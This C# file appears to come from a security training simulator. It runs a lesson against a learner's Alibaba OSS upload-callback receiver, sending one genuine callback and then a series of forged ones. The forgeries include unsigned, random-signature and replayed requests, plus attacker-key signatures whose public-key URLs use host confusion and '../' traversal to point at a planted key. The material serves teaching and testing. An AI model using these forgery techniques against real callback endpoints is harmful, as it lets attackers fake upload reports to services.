using System.Security.Cryptography;
using System.Text;
using Scenario.Signing.Oss;
using Scenario.Trainer.Calls;
using Scenario.Trainer.Reports;
using Scenario.Trainer.Stages;

namespace Scenario.Trainer.Lessons.Live;

/// <summary>Lets OSS report one real upload to a receiver with the learner's switches, then sends it what an attacker would.</summary>
internal static class CallbackRun
{
    private const string Uploaded = "users/alice/reported.txt";
    private const string Planted = "users/mallory/evil.pem";

    public static async Task PlayAsync(LiveRun run, Stage stage, CancellationToken cancellationToken)
    {
        using var attacker = AttackersKey.Open();
        var pem = attacker.ExportSubjectPublicKeyInfoPem();
        var rules = new ReportRules(run["keyAddress"], run["signature"], run["booking"]);
        await using var desk = await ReportDesk.StartAsync(stage, rules, pem, cancellationToken);
        var calls = new StageCalls(stage);
        var oss = stage.Cloud.OssEndpoint.GetLeftPart(UriPartial.Authority);
        var server = await calls.AssumeRoleAsync(stage.KeyOf("appServer"), $"acs:ram::{stage.Account}:role/oss-uploader", "callback", null, 900,
            cancellationToken);
        var key = server.Key ?? throw new InvalidOperationException($"{server.Answer.Status} {server.Answer.Code}: {server.Answer.Message}");

        // Everybody who may upload can put a key of his own into the bucket, where it lies on the very host of OSS.
        await calls.OssAsync(key, new("PUT", stage.Bucket, Planted)
        {
            Body = Encoding.ASCII.GetBytes(pem),
            Headers = [new("x-oss-object-acl", "public-read")],
        }, cancellationToken);
        var before = stage.Feed.LastSequence;
        await calls.OssAsync(key, new("PUT", stage.Bucket, Uploaded)
        {
            Body = "an upload that really happened"u8.ToArray(),
            Headers = [new("x-oss-callback", Callback(desk))],
        }, cancellationToken);
        run.Note("genuine", desk.Booked(Uploaded) > 0, await ReportAsync(before));
        if (desk.Last is not var (authorization, keyAddress, body))
        {
            return;
        }

        var evil = new Uri(desk.Address, "/evil.pem");
        await ForgeAsync("unsigned", static _ => null, "");
        await ForgeAsync("noise", static _ => Convert.ToBase64String(RandomNumberGenerator.GetBytes(128)), keyAddress);
        await ForgeAsync("body", _ => authorization, keyAddress);
        await ForgeAsync("foreign", Own, Base64(evil.AbsoluteUri));
        await ForgeAsync("begins", Own, Base64($"{oss}@{evil.Authority}{evil.AbsolutePath}"));
        await ForgeAsync("dots", Own, Base64($"{oss}/_/../{stage.Bucket}/{Planted}"));
        before = stage.Feed.LastSequence;
        await SendAsync(authorization, keyAddress, body);
        run.Note("twice", desk.Booked(Uploaded) > 1, await ReportAsync(before));

        string Own(byte[] report) => Convert.ToBase64String(OssCallbackSignature.Sign(ReportDesk.Path, report, attacker));

        async Task ForgeAsync(string probe, Func<byte[], string?> sign, string address)
        {
            var invented = $"users/alice/{probe}.jpg";
            var report = Encoding.ASCII.GetBytes($"bucket={stage.Bucket}&object={Uri.EscapeDataString(invented)}&etag=X&size=7&mimeType=image%2Fjpeg");
            var since = stage.Feed.LastSequence;
            await SendAsync(sign(report), address, report);
            run.Note(probe, desk.Booked(invented) > 0, await ReportAsync(since));
        }

        Task<CallAnswer> SendAsync(string? signature, string address, byte[] report) => StageCalls.PostFormAsync(new Uri(desk.Address, ReportDesk.Path), report,
            signature is null ? [] : [("authorization", signature), ("x-oss-pub-key-url", address)], cancellationToken);

        Task<Hop?> ReportAsync(long since) => stage.Feed.WaitForAsync(
            hop => hop.Sequence > since && hop.Host == HopHost.AppServer && hop.Path == ReportDesk.Path && hop.IsAnswered, cancellationToken);
    }

    private static string Callback(ReportDesk desk) => Base64($$"""
        {"callbackUrl":"{{new Uri(desk.Address, ReportDesk.Path)}}",
         "callbackBody":"bucket=${bucket}&object=${object}&etag=${etag}&size=${size}&mimeType=${mimeType}"}
        """);

    private static string Base64(string text) => Convert.ToBase64String(Encoding.UTF8.GetBytes(text));
}
